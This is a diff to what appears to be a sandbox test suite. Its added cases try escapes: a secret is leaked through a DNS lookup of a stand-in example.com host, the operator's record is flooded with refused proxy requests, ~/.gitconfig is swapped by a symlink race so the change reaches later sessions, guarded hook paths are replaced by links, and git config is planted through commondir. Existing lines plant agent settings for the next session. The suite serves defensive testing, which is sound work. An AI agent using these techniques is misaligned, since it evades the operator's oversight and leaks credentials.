@@ -3,6 +3,8 @@
 import base64
 import os
 import signal
+import socket
+import subprocess
 import time
 
 from case import case
@@ -58,7 +60,7 @@ def end_the_first_process(host):
 
 # The record and the state
 
-@case("private-root host-uid", user="private-root", host="ledger")
+@case("private-root host-uid landlock", user="private-root landlock", host="ledger")
 def forge_the_record(host):
     """Writes a line of its own into a session's record."""
     with open(host.path, "a") as file:
@@ -70,6 +72,71 @@ def planted_policy(host):
     """Lies in the workspace as a policy of its own, under every name that could be read."""
     with open(host.secret) as file:
         return file.read()
+
+
+@case(host="state-file", args="--write {home}/.local/state/bastide", control="--write {home}/.local/other", alone=True,
+      silence="E-PLANE-052")
+def write_the_named_state(host):
+    """Changes the plane's state where the operator named it with `--write`."""
+    with open(host.path, "a") as file:
+        file.write(host.nonce)
+
+
+@case(host="state-file", args="--read {home}/.local/state/bastide", control="--read {home}/.local/other", alone=True,
+      silence="E-PLANE-052")
+def read_the_named_state(host):
+    """Reads the plane's state where the operator named it with `--read`."""
+    with open(host.path) as file:
+        return file.read()
+
+
+@case(host="state-file", args="--read {home}/.local", control="--read {home}/.local", alone=True)
+def read_the_state_above(host):
+    """Reads the plane's state where the operator named a directory above it."""
+    with open(host.path) as file:
+        return file.read()
+
+
+@case(host="let-in-secret", args="--env {variable}={token} --accept-risk credential-inside", control="", alone=True)
+def secret_into_the_record(host):
+    """Spreads a secret that was let in over names and arguments, so that the record tells it."""
+    word = os.environ.get(host.variable) or host.word
+    subprocess.run(["/bin/true", word], check=True)
+    try:
+        socket.getaddrinfo(f"{word}.example.com", 80)
+    except OSError:
+        pass
+    return "spread"
+
+
+@case(host="flooded-record", control="", alone=True)
+def flood_the_record(host):
+    """Asks again and again for what it is refused, to fill the operator's disk with the record of it."""
+    for at in range(200 if host.control else 600):
+        with socket.create_connection(("proxy.bastide", 3128), 3) as one:
+            target = f"n{host.nonce}.example.com:{1000 + at if host.control else 1000}"
+            one.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
+            one.recv(4096)
+    return "flooded"
+
+
+@case(host="planted-link", control="", alone=True)
+def link_for_the_next_start(host):
+    """Puts links in place of its home's .gitconfig while further sessions start in that home."""
+    place, end = os.path.expanduser("~/.gitconfig"), time.monotonic() + 4.5
+    while time.monotonic() < end:
+        try:
+            if host.control:
+                os.unlink(place)
+                break
+            os.unlink(place)
+            os.symlink(host.outside, place)
+        except FileNotFoundError:
+            os.symlink(host.outside, place)
+        except FileExistsError:
+            pass
+    time.sleep(max(0, end - time.monotonic()))
+    return "planted"
 
 
 # Names and views
@@ -132,6 +199,37 @@ leave("editor-task", ".vscode/tasks.json", "which an editor runs")
 leave("pipeline", ".circleci/config.yml", "which the integration service runs with its secrets")
 leave("agent-settings", ".claude/settings.json", "which the next agent obeys")
 leave("git-hook", ".husky/pre-commit", "which git runs")
+
+
+@case(host="guarded-directory", word="apply:.husky apply:plain", alone=True)
+def link_above_a_guarded_path(host):
+    """Makes a plain directory, and a link to it in the place of a guarded one."""
+    os.mkdir("plain")
+    with open("plain/pre-commit", "w") as file:
+        file.write(host.nonce)
+    os.symlink("plain", ".husky")
+
+
+@case(host="guarded-link", word="apply:env.sh", alone=True)
+def behind_a_guarded_link(host):
+    """Changes a plain file, to which the operator's own guarded link leads."""
+    with open("env.sh", "w") as file:
+        file.write(host.nonce)
+
+
+@case(host="repository", args="--mode live", control="--mode live", alone=True)
+def repository_in_two_halves(host):
+    """Leaves a repository whose configuration lies elsewhere, by commondir, in live mode; git would obey it."""
+    names = host.names
+    texts = (("bare", "HEAD", "ref: refs/heads/main"), ("bare", "commondir", "../common"), ("common", "objects/x", "x"),
+             ("common", "refs/x", "x"), ("common", "config", f"[core]\n\tbare = true\n[range]\n\tnonce = {host.nonce}"))
+    for half, path, text in texts:
+        first, _, rest = path.partition("/")
+        path = f"{half}/{names[first]}/{rest}" if rest else f"{half}/{names[first]}"
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "w") as file:
+            file.write(text + "\n")
+    time.sleep(2.5)
 
 
 # The operator's terminal
